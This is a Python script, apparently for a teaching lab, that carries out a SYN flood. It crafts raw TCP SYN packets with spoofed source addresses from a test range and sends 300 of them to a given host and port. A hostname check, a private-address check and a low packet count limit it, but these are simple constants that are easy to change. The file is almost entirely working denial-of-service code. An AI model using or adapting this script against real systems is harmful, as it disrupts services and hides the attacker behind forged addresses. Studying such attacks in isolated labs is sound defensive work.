"""A small SYN flood (RFC 4987), for a lab only: 300 SYNs, within one second or so, and then it is over.

    python3 flood.py HOST PORT

The source addresses are taken from 198.18.0.0/15, which is for tests and belongs to nobody (RFC 2544), so nobody
answers the server's SYN/ACK, and it keeps waiting. The target must have a private address (RFC 1918), and this
computer must be the lab's attacker. Needs CAP_NET_RAW. Standard library only.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from ipaddress import IPv4Address, IPv4Network

ATTACKER = "mallory"
SYNS = 300
AT_ONCE = 10
PAUSE_S = 0.01
SOURCES = IPv4Network("198.18.0.0/15")
TARGETS = [IPv4Network(text) for text in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16")]
TCP, SYN, TTL = 6, 0x02, 64


def checksum(octets: bytes) -> int:
    """The Internet checksum (RFC 1071) of an even number of octets."""
    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: IPv4Address, target: IPv4Address, port: int, number: int) -> bytes:
    """An IPv4 packet with a SYN; `number` chooses its source port and sequence number. The kernel fills in the IPv4
    header's length, identification and checksum (raw(7))."""
    tcp = struct.pack("!HHIIBBHHH", 1024 + number, port, number << 16, 0, 5 << 4, SYN, 65535, 0, 0)
    pseudo = source.packed + target.packed + struct.pack("!HH", TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, TTL, TCP, 0, source.packed, target.packed) + tcp


def main(target: IPv4Address, port: int) -> int:
    """Send the SYNs."""
    if socket.gethostname() != ATTACKER or not any(target in network for network in TARGETS):
        sys.exit(f"only on a node called {ATTACKER}, and only to a private address")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(SYNS):
            raw.sendto(syn(SOURCES[1 + 7 * number], target, port, number), (str(target), 0))
            if number % AT_ONCE == AT_ONCE - 1:
                time.sleep(PAUSE_S)
    print(f"sent {SYNS} SYNs")
    return 0


if __name__ == "__main__":
    sys.exit(main(IPv4Address(sys.argv[1]), int(sys.argv[2])))
